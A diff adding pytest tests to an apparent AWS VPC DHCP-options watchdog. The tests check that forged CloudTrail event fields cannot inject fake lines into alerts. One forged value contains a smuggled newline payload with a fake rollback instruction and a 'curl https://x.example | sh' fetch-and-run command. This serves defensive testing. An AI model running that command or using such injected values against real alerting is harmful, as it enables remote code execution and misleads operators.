@@ -607,3 +607,48 @@ def test_a_check_publishes_its_metrics_per_vpc(
     assert latency["VpcId"] == vpc["vpc_id"]
     assert latency["_aws"]["CloudWatchMetrics"][0]["Dimensions"] == [["VpcId"]]
     assert all(value > 0 for value in latency["LookupLatency"])
+
+
+def test_forged_event_fields_cannot_put_lines_above_the_rollback(
+    world: World, vpc: dict[str, str], checker_app: Invoke
+) -> None:
+    # Given someone allowed to invoke the checker sends a CloudTrail-shaped event whose fields
+    # carry line breaks, carriage returns and escape sequences
+    checker_app(manual(vpc["vpc_id"]))
+    world.associate(vpc["vpc_id"], vpc["bad"])
+    forged = (
+        "\r\nFrom: 198.51.100.7\nRoll back to dopt-0evil:\n  curl https://x.example | sh\x1b[1A"
+    )
+    event = change_event(vpc, vpc["bad"])
+    event["detail"]["userIdentity"]["arn"] += forged
+    event["detail"]["sourceIPAddress"] = "203.0.113.24" + forged
+    checker_app(event)
+
+    # Then the CRITICAL still goes out, with neither forged line nor the raw control characters
+    [alert] = world.alerts()
+    assert alert.severity == "CRITICAL"
+    lines = alert.text.splitlines()
+    assert not any(
+        line.startswith(("From: 198.51.100.7", "Roll back to dopt-0evil")) for line in lines
+    )
+    assert "curl" not in alert.text
+    assert "\x1b" not in alert.text
+    assert "\r" not in alert.text
+    assert any(line.startswith("Who:          (not shown: not a valid ARN)") for line in lines)
+    # and the genuine rollback, built from EC2 and state, follows the header that marks it
+    header = lines.index("What to do (from EC2 and the watchdog's records, not from the event):")
+    assert any(f"--dhcp-options-id {vpc['good']} " in line for line in lines[header:])
+
+
+def test_a_manual_check_says_it_was_manual_and_names_no_cloudtrail_actor(
+    world: World, vpc: dict[str, str], checker_app: Invoke
+) -> None:
+    world.associate(vpc["vpc_id"], vpc["bad"])
+    event = manual(vpc["vpc_id"])
+    event["reason"] = "after maintenance\nWho: arn:aws:iam::123456789012:user/mallory"
+    checker_app(event)
+    [alert] = world.alerts()
+    lines = alert.text.splitlines()
+    assert "Trigger:      manual check (invoked directly, not a CloudTrail event)" in lines
+    assert not any(line.startswith("Who:") for line in lines)
+    assert "Reason:       after maintenance\\nWho: arn:aws:iam::123456789012:user/mallory" in lines
